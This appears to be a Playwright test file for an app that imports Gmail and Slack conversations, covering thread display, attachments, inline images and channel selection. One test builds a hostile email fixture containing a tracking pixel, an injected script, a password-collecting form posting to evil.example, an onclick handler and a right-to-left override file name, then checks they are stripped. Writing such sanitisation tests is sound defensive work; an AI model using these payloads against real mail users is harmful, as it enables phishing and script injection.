import { randomUUID } from 'node:crypto';
import { card, connect, sync } from '../setup/apps.ts';
import { expectSound } from '../setup/looks.ts';
import { enterAs, newPerson } from '../setup/people.ts';
import { expect, inBackground, test, tick } from '../setup/test.ts';

const mailOf = (name: string) => ({ person: 'chen', subject: name, text: `Words of ${name}` });

test('a mail thread reads like a conversation, with people, days, folded quotes and attachments', {
  tag: '@sound',
}, async ({ page }) => {
  const person = await newPerson();
  const gmail = await connect(person, 'gmail', 'chen');
  const label = `Harvest ${randomUUID()}`;
  const labelIds = [await gmail.cloud<string>('addLabel', { person: 'chen', name: label })];
  const first = await gmail.cloud<string>('addMail', { ...mailOf('Wheat'), labelIds });
  await gmail.cloud('addMail', {
    ...mailOf('Re: Wheat'),
    text: 'Here is the plan.\n\n> Words of Wheat',
    labelIds,
    answers: first,
    files: [{ name: 'plan.txt', mimeType: 'text/plain', base64: Buffer.from('Sow, then reap').toString('base64') }],
  });
  await sync(person, gmail, { chat_selected: [{ id: labelIds[0]!, name: label }] });
  await enterAs(page, person);
  await page.goto('/directory');
  const row = page.locator('[data-id]').filter({ hasText: 'Wheat' });
  await expect(row).toContainText('2 messages');
  await row.dblclick();

  const dialog = page.getByRole('dialog');
  const thread = dialog.locator('iframe').contentFrame();
  await expect(thread.getByRole('article')).toHaveCount(2);
  await expect(thread.getByText('Here is the plan.')).toBeVisible();
  await expect(thread.getByText('Quoted text')).toBeVisible();
  await expect(thread.locator('blockquote')).toBeHidden();
  await expectSound(page);
  await thread.getByRole('button', { name: /^plan\.txt/ }).click();
  await expect(dialog).toHaveAccessibleName('plan.txt');
  await expect(dialog.locator('iframe').contentFrame().locator('body')).toContainText('Sow, then reap');
  await dialog.getByRole('tab', { name: 'File Details' }).click();
  await dialog.getByRole('link', { name: 'Wheat' }).click();
  await expect(dialog).toHaveAccessibleName('Wheat');
});

test('a message from outside runs nothing and loads nothing until the person agrees', async ({ page }) => {
  const person = await newPerson();
  const gmail = await connect(person, 'gmail', 'chen');
  const label = `Hostile ${randomUUID()}`;
  const labelIds = [await gmail.cloud<string>('addLabel', { person: 'chen', name: label })];
  const html = `<p>Dear reader</p><img src="https://tracker.example/pixel.gif">
    <script>parent.postMessage({ type: 'link', href: 'https://evil.example' }, '*')</script>
    <form action="https://evil.example"><input name="password"></form><b onclick="alert(1)">bold</b>`;
  await gmail.cloud('addMail', { ...mailOf('\u202egpj.txt'), html, labelIds });
  await sync(person, gmail, { chat_selected: [{ id: labelIds[0]!, name: label }] });
  await enterAs(page, person);
  await page.goto('/directory');
  await page.locator('[data-id]').filter({ hasText: '1 message' }).dblclick();
  const dialog = page.getByRole('dialog');
  const thread = dialog.locator('iframe').contentFrame();
  await expect(thread.getByText('Dear reader')).toBeVisible();
  await expect(dialog.getByText('External images are hidden to protect your privacy.')).toBeVisible();
  await expect(thread.getByRole('article').locator('form, input, script, [onclick]')).toHaveCount(0);
});

test('a picture inside a mail is shown, and a broken one leaves its name', { tag: '@long' }, async ({ page }) => {
  const person = await newPerson();
  const gmail = await connect(person, 'gmail', 'chen');
  const label = `Pictures ${randomUUID()}`;
  const labelIds = [await gmail.cloud<string>('addLabel', { person: 'chen', name: label })];
  const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
  const picture = { mimeType: 'image/png' };
  await gmail.cloud('addMail', {
    ...mailOf('Pictures'),
    html: '<p>Look</p><img src="cid:dot" alt="A dot" width="80"><img src="cid:broken" alt="Broken">',
    labelIds,
    files: [
      { ...picture, name: 'dot.png', contentId: 'dot', base64: dot },
      { ...picture, name: 'broken.png', contentId: 'broken', base64: 'bm8gcGljdHVyZQ==' },
    ],
  });
  await sync(person, gmail, { chat_selected: [{ id: labelIds[0]!, name: label }] });
  await enterAs(page, person);
  await page.goto('/directory');
  await page.locator('[data-id]').filter({ hasText: '1 message' }).dblclick();
  const dialog = page.getByRole('dialog');
  const thread = dialog.locator('iframe').contentFrame();
  const drawn = thread.getByRole('img', { name: 'A dot' });
  await expect(drawn).toBeVisible();
  await expect.poll(() => drawn.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
  await expect(thread.getByText('Broken')).toBeVisible();
  // It is part of the mail, so nobody outside learns that it was read.
  await expect(dialog.getByText('External images are hidden to protect your privacy.')).toHaveCount(0);
  await expectSound(page);
});

test('channels are chosen like folders, and a smaller choice says what it removes', { tag: '@long' }, async ({
  page,
}) => {
  const person = await newPerson();
  const slack = await connect(person, 'slack', 'ada');
  await sync(person, slack);
  await enterAs(page, person);
  await page.goto('/apps');
  await expect(card(page, 'Slack')).toContainText('All conversations');
  await card(page, 'Slack').getByRole('button', { name: 'Sync settings' }).click();
  const settings = page.getByRole('dialog', { name: 'Sync settings' });
  await tick(settings.getByRole('radio', { name: 'Chosen conversations' }));
  await expect(settings.getByRole('button', { name: 'Save' })).toBeDisabled();
  await settings.getByRole('treeitem', { name: '#general' }).click();
  await expectSound(page);
  await settings.getByRole('button', { name: 'Save' }).click();
  await settings.getByRole('button', { name: 'Remove and save' }).click();
  await expect(card(page, 'Slack')).toContainText('1 chosen');
  await expect(card(page, 'Slack').getByText('Connected', { exact: true })).toBeVisible(inBackground);
  await page.goto('/directory');
  await expect(page.locator('[data-id]').filter({ hasText: '#general' }).first()).toBeVisible();
  await expect(page.locator('[data-id]').filter({ hasText: '#harbour' })).toHaveCount(0);
});
